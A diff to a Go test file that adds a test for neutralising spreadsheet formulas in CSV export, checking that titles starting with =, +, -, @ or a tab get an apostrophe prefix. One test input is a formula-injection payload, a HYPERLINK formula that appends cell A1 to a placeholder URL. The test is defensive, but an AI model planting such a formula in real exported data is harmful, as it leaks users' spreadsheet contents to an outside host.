@@ -8,6 +8,7 @@ import (
 	"io"
 	"os"
 	"path/filepath"
+	"slices"
 	"strings"
 	"testing"
 	"time"
@@ -60,9 +61,41 @@ func TestLines(t *testing.T) {
 	}
 }
 
+// What a spreadsheet would calculate is a text to it, where that is asked for.
+func TestCSVFormulas(t *testing.T) {
+	for title, want := range map[string]string{
+		`=HYPERLINK("https://x.example/"&A1)`: `'=HYPERLINK("https://x.example/"&A1)`,
+		"+1 for the ferry":                    "'+1 for the ferry",
+		"-x":                                  "'-x",
+		"@SUM(A1)":                            "'@SUM(A1)",
+		"\t=1":                                "'\t=1",
+		"-5":                                  "-5",
+		"Ferry = late":                        "Ferry = late",
+	} {
+		r := bare()
+		r.Record.Title = title
+		for _, noFormulas := range []bool{true, false} {
+			var b bytes.Buffer
+			if _, err := export.CSV(&b, these(r), noFormulas); err != nil {
+				t.Fatal(err)
+			}
+			lines, err := csv.NewReader(&b).ReadAll()
+			if err != nil {
+				t.Fatal(err)
+			}
+			if !noFormulas {
+				want = title
+			}
+			if got := lines[1][slices.Index(lines[0], "title")]; got != want {
+				t.Errorf("noFormulas %v: %q, want %q", noFormulas, got, want)
+			}
+		}
+	}
+}
+
 func TestCSV(t *testing.T) {
 	var b bytes.Buffer
-	if n, err := export.CSV(&b, these(whole(), bare())); n != 2 || err != nil {
+	if n, err := export.CSV(&b, these(whole(), bare()), false); n != 2 || err != nil {
 		t.Fatal(n, err)
 	}
 	lines, err := csv.NewReader(&b).ReadAll()
@@ -158,7 +191,7 @@ func TestErrors(t *testing.T) {
 		_ = yield(whole(), nil) && yield(nil, broken)
 	}
 	for name, write := range map[string]func(io.Writer, export.Revisions) (int, error){
-		"Lines": export.Lines, "CSV": export.CSV, "Parquet": export.Parquet,
+		"Lines": export.Lines, "CSV": func(w io.Writer, r export.Revisions) (int, error) { return export.CSV(w, r, false) }, "Parquet": export.Parquet,
 		"Markdown": func(_ io.Writer, r export.Revisions) (int, error) { return export.Markdown(t.TempDir(), r, false) },
 		"WACZ":     func(w io.Writer, r export.Revisions) (int, error) { return export.WACZ(w, t.TempDir(), r, fetched) },
 	} {
